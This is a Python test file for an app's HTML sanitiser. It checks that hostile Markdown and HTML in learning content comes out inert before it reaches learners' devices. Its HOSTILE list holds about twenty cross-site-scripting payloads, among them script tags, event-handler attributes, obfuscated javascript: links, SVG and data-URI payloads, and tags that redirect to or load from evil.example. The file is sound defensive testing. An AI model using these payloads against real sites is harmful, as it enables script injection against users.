"""Hostile Markdown and HTML in nuggets never reaches a phone as something that runs."""

import html as html_lib
import re

import pytest
from sqlmodel import select

from mmapp import content
from mmapp.content.sanitize import to_safe_html
from mmapp.models import Nugget, User
from mmapp.sync.changes import pull
from tests.factories import nugget_in

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '<img src="/media/a.png" onerror="alert(1)">',
    "<p onclick=alert(1) onmouseover='alert(2)'>tap</p>",
    "[tap me](javascript:alert(1))",
    '<a href="javascript:alert(1)">tap</a>',
    '<a href="JaVaScRiPt:alert(1)">tap</a>',
    '<a href="&#106;avascript:alert(1)">tap</a>',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '<img src="data:image/svg+xml;utf8,<svg onload=alert(1)>">',
    "<svg onload=alert(1)><script>alert(2)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<form action="https://evil.example"><button>go</button></form>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>body{display:none}</style>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    "<!--><script>alert(1)</script>-->",
    '<img src="http://tracker.example/pixel.gif">',
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_input_comes_out_inert(text):
    html = to_safe_html(f"Before\n\n{text}\n\nAfter")
    lowered = html.lower()
    for danger in (
        "<script",
        "<svg",
        "<iframe",
        "<object",
        "<form",
        "<style",
        "<meta",
        "<base",
        "<math",
    ):
        assert danger not in lowered, html
    assert not re.search(r"\son\w+\s*=", lowered), html  # no event-handler attributes
    urls = [html_lib.unescape(u) for u in re.findall(r'(?:href|src)\s*=\s*"([^"]*)"', lowered)]
    assert not [u for u in urls if not u.startswith(("https://", "/", "mailto:"))], html
    assert "style=" not in lowered, html
    assert "Before" in html  # the text around it survives (unclosed HTML may eat what follows)


def test_ordinary_markdown_keeps_its_meaning():
    html = to_safe_html(
        "# Heading\n\n**Bold** and *italic*, `code`.\n\n> Quoted\n\n1. one\n2. two\n\n"
        "![A chart](/media/truncated-axis.svg) [Docs](https://example.org/a?b=1)\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n5 < 6 & 7 > 3"
    )
    assert "<h3>Heading</h3>" in html  # under the page's own headings
    assert "<strong>Bold</strong>" in html and "<em>italic</em>" in html
    assert "<blockquote>" in html and "<ol>" in html and "<table>" in html
    assert '<img src="/media/truncated-axis.svg" alt="A chart">' in html
    assert (
        'href="https://example.org/a?b=1"' in html and 'rel="noopener noreferrer nofollow"' in html
    )
    assert "5 &lt; 6 &amp; 7 &gt; 3" in html


def test_devices_get_sanitised_html_not_markdown(session, seeded):
    hostile = "Context <script>window.hacked = 1</script> [x](javascript:alert(1))"
    nugget = content.save_nugget(
        session=session, data=nugget_in(slug="hostile", skill="reading-charts", context=hostile)
    )
    content.publish(session=session, nugget=nugget)
    from mmapp.models import Cohort

    cohort = session.exec(select(Cohort)).one()
    content.assign(session=session, cohort=cohort, nugget=nugget)
    learner = session.exec(select(User).where(User.email.startswith("learner@"))).one()
    page = pull(session=session, user=learner, cursor_token=None, page_size=50)
    [sent] = [n.model_dump(mode="json") for n in page.nuggets if n.slug == "hostile"]
    assert "context" not in sent and "way_in" not in sent and "payoff" not in sent
    assert "<script" not in sent["context_html"] and "href" not in sent["context_html"]
    assert sent["context_html"].startswith("<p>Context")
    assert session.exec(select(Nugget).where(Nugget.slug == "hostile")).one().context_md == hostile
